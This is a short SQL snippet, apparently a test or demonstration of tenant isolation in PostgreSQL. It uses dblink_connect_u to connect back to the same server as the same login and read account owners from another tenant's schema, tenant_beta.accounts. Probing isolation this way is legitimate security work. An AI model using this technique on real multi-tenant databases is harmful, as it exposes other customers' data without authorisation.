-- A connection back to the same server as the same login.
SELECT dblink_connect_u('back', 'host=:socket dbname=attack user=app');
SELECT * FROM dblink('back', 'SELECT owner FROM tenant_beta.accounts') AS t (owner text);
